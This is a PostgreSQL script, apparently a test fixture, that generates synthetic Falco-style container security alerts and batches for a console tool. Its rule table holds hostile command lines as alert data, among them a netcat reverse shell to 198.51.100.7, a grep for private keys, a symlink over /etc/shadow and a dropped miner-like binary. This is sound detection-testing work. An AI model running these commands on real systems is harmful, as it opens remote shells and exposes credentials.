-- Makes events in a store for console.py, as they would be there after some days of ingesting: events,
-- dictionaries, batches. The same seed, number and end make the same events. console_store.py runs this,
-- calls made.fill() for one part after the other, lets Falconer's own function count the batches, and
-- drops the schema.
--
-- psql variables: seed, events, clusters, days, until (a time: the newest event's receipt).
CREATE SCHEMA made;

CREATE TABLE made.plan AS
SELECT :seed::int8 AS seed, :events::int8 AS events, :clusters::int AS clusters, :days::float8 AS days,
       :'until'::timestamptz AS until,
       greatest(200, least(20000, :events / 50))::int8 AS workloads;

-- A number in [0, below) that goes with n; another `salt`, another number.
CREATE FUNCTION made.pick(n int8, salt int8, below int8) RETURNS int8
LANGUAGE sql IMMUTABLE PARALLEL SAFE AS $$ SELECT (hashint8extended(n, salt) & 4611686018427387903) % below $$;

-- In [0, 1), and of `skewed` the small ones more often: a few clusters make most of the noise.
CREATE FUNCTION made.chance(n int8, salt int8) RETURNS float8
LANGUAGE sql IMMUTABLE PARALLEL SAFE AS $$ SELECT made.pick(n, salt, 1 << 30) / (1 << 30)::float8 $$;

CREATE FUNCTION made.hex(n int8, salt int8, digits int) RETURNS text
LANGUAGE sql IMMUTABLE PARALLEL SAFE AS $$ SELECT substr(md5(n || '/' || salt), 1, digits) $$;

-- Monotone: n-th events come n-th. By day more than by night.
CREATE FUNCTION made.receipt(n int8, p made.plan) RETURNS timestamptz
LANGUAGE sql IMMUTABLE PARALLEL SAFE AS $$
    SELECT p.until - make_interval(secs => 86400 * p.days *
        (1 - (n + 0.5) / p.events - 0.6 * sin(2 * pi() * p.days * (n + 0.5) / p.events) / (2 * pi() * p.days)))
$$;

-- What fires how often. `more`: fields of that rule only, as a part of a JSON object.
CREATE TABLE made.rule (
    weight int, priority int2, rule text, tags text, type text, process text, command text, parent text, more text, upto int);
INSERT INTO made.rule (weight, priority, rule, tags, type, process, command, parent, more) VALUES
(300, 5, 'Contact K8S API Server From Container', '["T1565","container","k8s","maturity_stable","mitre_discovery","network"]', 'connect', 'controller', '/usr/bin/controller --leader-elect', 'containerd-shim', '"fd.lport":443,"fd.rport":38122,"fd.type":"ipv4","fd.l4proto":"tcp"'),
(220, 5, 'Unexpected UDP Traffic', '["TA0011","container","host","maturity_incubating","mitre_exfiltration","network"]', 'connect', 'node', 'node /app/server.js', 'npm', '"fd.lport":53,"fd.rport":48800,"fd.type":"ipv4","fd.l4proto":"udp"'),
(120, 4, 'Read sensitive file untrusted', '["T1020","T1083","T1212","T1552","T1555","container","filesystem","host","maturity_stable","mitre_credential_access"]', 'openat', 'python3', 'python3 /srv/backup.py', 'sh', '"fd.name":"/etc/shadow","fd.typechar":"f","evt.is_open_read":true'),
(90, 5, 'Run shell untrusted', '["T1059.004","container","host","maturity_stable","mitre_execution","process","shell"]', 'execve', 'sh', 'sh -c /healthcheck', 'java', '"proc.pcmdline":"java -jar app.jar","proc.sid":1'),
(80, 6, 'System user interactive', '["T1059","container","host","maturity_stable","mitre_execution","users"]', 'execve', 'crond', 'crond -f', 'init', '"proc.sid":1'),
(60, 5, 'Terminal shell in container', '["T1059","container","maturity_stable","mitre_execution","shell"]', 'execve', 'bash', 'bash -il', 'runc', '"evt.arg.flags":"EXE_WRITABLE|EXE_LOWER_LAYER"'),
(50, 3, 'Launch Package Management Process in Container', '["T1505","container","maturity_sandbox","mitre_persistence","process","software_mgmt"]', 'execve', 'apt-get', 'apt-get -qq update', 'bash', '"proc.exe_flags":"EXE_WRITABLE"'),
(40, 4, 'Download by a tool in a container', '["T1105","container","mitre_command_and_control","network"]', 'execve', 'curl', 'curl -sSfL https://files.example.net/tool.tar.gz', 'sh', '"proc.exe_flags":"EXE_WRITABLE"'),
(40, 4, 'Search Private Keys or Passwords', '["T1552.001","container","filesystem","host","maturity_stable","mitre_credential_access","process"]', 'execve', 'grep', 'grep -r BEGIN.PRIVATE /etc', 'bash', '"proc.sid":44'),
(30, 3, 'Write below root', '["TA0003","container","filesystem","host","maturity_sandbox","mitre_persistence"]', 'openat', 'installer', '/opt/installer --yes', 'bash', '"fd.name":"/root/.cache/state","fd.typechar":"f","evt.is_open_write":true'),
(30, 5, 'Packet socket created in container', '["T1557.002","container","maturity_stable","mitre_credential_access","network"]', 'socket', 'tcpdump', 'tcpdump -i any -c 100', 'bash', '"evt.arg.domain":"AF_PACKET"'),
(25, 4, 'Clear Log Activities', '["NIST_800-53_AU-10","T1070","container","filesystem","host","maturity_stable","mitre_defense_evasion"]', 'openat', 'logrotate', 'logrotate /etc/logrotate.conf', 'crond', '"fd.name":"/var/log/messages","fd.typechar":"f"'),
(20, 5, 'Redirect STDOUT/STDIN to Network Connection in Container', '["T1059","container","maturity_stable","mitre_execution","network","process"]', 'dup2', 'perl', 'perl -e worker', 'sh', '"fd.name":"10.96.0.12:8080","fd.type":"ipv4"'),
(15, 4, 'Create Symlink Over Sensitive Files', '["T1555","container","filesystem","host","maturity_stable","mitre_credential_access"]', 'symlinkat', 'ln', 'ln -s /etc/shadow /tmp/x', 'bash', '"evt.arg.target":"/etc/shadow"'),
(10, 3, 'Web server started a child – geöffnet', '["T1190","container","mitre_initial_access","process"]', 'execve', 'php-fpm', 'php-fpm: pool www', 'nginx', '"proc.cwd":"/var/www/html"'),
(6, 2, 'Drop and execute new binary in container', '["PCI_DSS_11.5.1","TA0003","container","maturity_stable","mitre_persistence","process"]', 'execve', 'kworkerds', '/tmp/kworkerds -o pool', 'sh', '"proc.is_exe_upper_layer":true,"proc.exe_flags":"EXE_WRITABLE|EXE_UPPER_LAYER"'),
(3, 4, 'Netcat Remote Code Execution in Container', '["T1059","container","maturity_stable","mitre_execution","network","process"]', 'execve', 'nc', 'nc -e /bin/sh 198.51.100.7 4444', 'sh', '"proc.tty":0'),
(2, 2, 'Fileless execution via memfd_create', '["T1620","container","host","maturity_stable","mitre_defense_evasion","process"]', 'execve', 'loader', 'memfd:loader', 'python3', '"evt.arg.flags":"EXE_FROM_MEMFD"'),
(1, 1, 'Cluster administrator bound by a workload', '["T1098","container","k8s","mitre_privilege_escalation"]', 'execve', 'kubectl', 'kubectl create clusterrolebinding x', 'bash', '"proc.tty":34816');
UPDATE made.rule r SET upto = (SELECT sum(weight) FROM made.rule o WHERE (o.weight, o.rule) >= (r.weight, r.rule));

-- The dictionaries. One cluster more than was asked for is so quiet that it has a handful of events.
INSERT INTO falconer.cluster (digest, identity, landscape, project, name, uid, first_seen)
SELECT sha256(convert_to('shoot--' || project || '--' || name || '-' || uid || '-live', 'UTF8')),
       'shoot--' || project || '--' || name || '-' || uid || '-live', 'live', project, name, uid, p.until - make_interval(days => 90)
FROM made.plan p, LATERAL (
    SELECT CASE WHEN n = p.clusters THEN 'quiet' ELSE 'p' || lpad((n % greatest(p.clusters / 5, 1))::text, 3, '0') END AS project,
           CASE WHEN n = p.clusters THEN 'hut' ELSE 'c' || lpad(n::text, 4, '0') END AS name,
           made.hex(n, p.seed, 8) || '-0000-4000-8000-' || made.hex(n, p.seed + 1, 12) AS uid
    FROM generate_series(0, p.clusters) AS n) c;

CREATE TABLE made.cluster AS
SELECT row_number() OVER (ORDER BY c.id) - 1 AS no, c.id, c.identity, c.name FROM falconer.cluster c;

INSERT INTO falconer.text (kind, digest, value)
SELECT kind, sha256(convert_to(value, 'UTF8')), value FROM (
    SELECT 1, rule FROM made.rule UNION SELECT 4, tags FROM made.rule UNION SELECT 2, 'syscall'
    UNION SELECT 3, c.name || '-worker-z' || node % 3 || '-' || made.hex(c.no * 8 + node, 3, 5)
    FROM made.cluster c, generate_series(0, 4) AS node) AS t (kind, value);

-- Workloads that fire now and then; each has a rule, a place, and all of an event that stays the same.
CREATE TABLE made.workload AS
SELECT n AS no, c.id AS cluster, r.priority, r.id AS rule, s.id AS source, h.id AS hostname, r.tags_id AS tags,
       priority_name || ' ' || r.rule || ' | container_id=' || container || ' container_image_repository=registry.example.net/' || ns || '/' || app
           || ' container_name=' || app || ' evt_type=' || r.type || ' k8s_ns_name=' || ns || ' k8s_pod_name=' || pod || ' proc_cmdline=' || r.command AS said,
       ' proc_name=' || r.process || ' proc_pname=' || r.parent || ' proc_tty=0 user_name=' || usr || ' user_uid=' || uid AS said_then,
       '{"cluster_id":"' || c.identity || '","container.id":"' || container || '","container.image.repository":"registry.example.net/' || ns || '/' || app
           || '","container.image.tag":"4.' || made.pick(n, p.seed + 20, 40) || '.2","container.name":"' || app || '","evt.type":"' || r.type
           || '","falco_version":"0.44.0","k8s.ns.name":"' || ns || '","k8s.pod.name":"' || pod || '","proc.aname[2]":"containerd-shim","proc.aname[3]":"systemd","proc.aname[4]":null,"proc.exepath":"/usr/bin/'
           || r.process || '","proc.is_exe_upper_layer":false,"proc.name":"' || r.process || '","proc.pname":"' || r.parent
           || '","user.loginuid":-1,"user.name":"' || usr || '","user.uid":' || uid || ',' || r.more || ',"proc.cmdline":"' || r.command AS fields
FROM made.plan p CROSS JOIN generate_series(0, p.workloads) AS n
CROSS JOIN LATERAL (
    SELECT floor(p.clusters * made.chance(n, p.seed + 10) ^ 2)::int AS cluster_no, made.pick(n, p.seed + 11, (SELECT sum(weight) FROM made.rule)::int8) AS ticket,
           made.pick(n, p.seed + 12, 5) AS node, made.hex(n, p.seed + 13, 12) AS container,
           (ARRAY['shop', 'payment', 'kube-system', 'monitoring', 'ingress', 'data', 'build', 'garden', 'web', 'mail', 'search', 'batch'])[1 + made.pick(n, p.seed + 14, 12)] AS ns,
           (ARRAY['checkout', 'cart', 'api', 'worker', 'gateway', 'indexer', 'runner', 'frontend', 'sync', 'proxy'])[1 + made.pick(n, p.seed + 15, 10)] AS app,
           CASE WHEN made.pick(n, p.seed + 16, 4) = 0 THEN 'app' ELSE 'root' END AS usr,
           CASE WHEN made.pick(n, p.seed + 16, 4) = 0 THEN 1000 ELSE 0 END AS uid) x
CROSS JOIN LATERAL (SELECT app || '-' || translate(made.hex(n, p.seed + 17, 9) || '-' || made.hex(n, p.seed + 18, 5), '0123456789abcdef', 'bcdfghjklmnpqrst') AS pod) y  -- Kubernetes' own letters
JOIN made.cluster c ON c.no = CASE WHEN n = p.workloads THEN p.clusters ELSE x.cluster_no END
JOIN LATERAL (
    SELECT r.*, t.id, g.id AS tags_id,
           (ARRAY['Emergency', 'Alert', 'Critical', 'Error', 'Warning', 'Notice', 'Informational', 'Debug'])[r.priority + 1] AS priority_name
    FROM made.rule r JOIN falconer.text t ON t.kind = 1 AND t.value = r.rule JOIN falconer.text g ON g.kind = 4 AND g.value = r.tags
    WHERE r.upto > x.ticket ORDER BY r.upto LIMIT 1) r ON true
JOIN falconer.text h ON h.kind = 3 AND h.value = c.name || '-worker-z' || node % 3 || '-' || made.hex(c.no * 8 + node, 3, 5)
JOIN falconer.text s ON s.kind = 2;
ALTER TABLE made.workload ADD PRIMARY KEY (no);
ANALYZE made.workload;

-- Events first <= n < behind and their batches, a hundred in each. Both are multiples of a hundred.
-- A few workloads fire at a time, for five minutes each: as in life, counts by the minute are far fewer than
-- events. Five of all events are of the quiet cluster; one, the needle, is like no other.
CREATE FUNCTION made.fill(first int8, behind int8) RETURNS void
LANGUAGE plpgsql AS $$
DECLARE
    p      made.plan;
    needle int8;
    busy   int8;  -- workloads at a time
BEGIN
    SELECT * INTO STRICT p FROM made.plan;
    needle := p.events * 37 / 100;
    busy := greatest(3, (p.events / (p.days * 288) / 40)::int8);
    WITH stored AS (
        INSERT INTO falconer.event (received, time, id, cluster, rule, source, hostname, tags, priority, flags, time_nanos, output, output_fields, batch)
        SELECT received, time, id, w.cluster, w.rule, w.source, w.hostname, w.tags, w.priority, 0, nanos,
               to_char(time AT TIME ZONE 'UTC', 'HH24:MI:SS.US') || ': ' || w.said || argument || w.said_then,
               (w.fields || argument || '","proc.pid":' || pid || ',"evt.time":' || (extract(epoch FROM time) * 1000000)::int8 || lpad(nanos::text, 3, '0') || '}')::jsonb,
               n / 100 + 1
        FROM (SELECT n, made.receipt(n, p) + make_interval(secs => made.chance(n, p.seed + 30) * 0.3) AS received FROM generate_series(first, least(behind, p.events) - 1) AS n) a
        CROSS JOIN LATERAL (
            SELECT received - make_interval(secs => 0.02 + 2 * made.chance(n, p.seed + 31) ^ 4) AS time, made.pick(n, p.seed + 32, 1000)::int2 AS nanos,
                   made.pick(n, p.seed + 33, 60000) + 2 AS pid, (md5(n || '/' || p.seed))::uuid AS id,
                   CASE WHEN n = needle THEN ' --needle in-the-haystack-' || p.seed ELSE ' --job ' || made.pick(n, p.seed + 34, 100000) END AS argument,
                   CASE WHEN n % greatest(p.events / 5, 1) = 7 THEN p.workloads
                        ELSE made.pick(floor(extract(epoch FROM received) / 300)::int8 * 100000 + made.pick(n, p.seed + 35, busy), p.seed + 36, p.workloads) END AS workload) b
        JOIN made.workload w ON w.no = b.workload
        ORDER BY received
        RETURNING received, cluster, rule, priority, batch
    ), counted AS (
        SELECT batch, floor(extract(epoch FROM received) / 60)::int4 AS minute, cluster, rule, priority, count(*)::int4 AS count, max(received) AS last
        FROM stored GROUP BY 1, 2, 3, 4, 5
    )
    INSERT INTO falconer.batch (seq, at, days, minutes, clusters, rules, priorities, counts) OVERRIDING SYSTEM VALUE
    SELECT batch, max(last) + interval '20 ms', array_agg(DISTINCT (last AT TIME ZONE 'UTC')::date), array_agg(minute), array_agg(cluster), array_agg(rule), array_agg(priority), array_agg(count)
    FROM counted GROUP BY batch;
END $$;
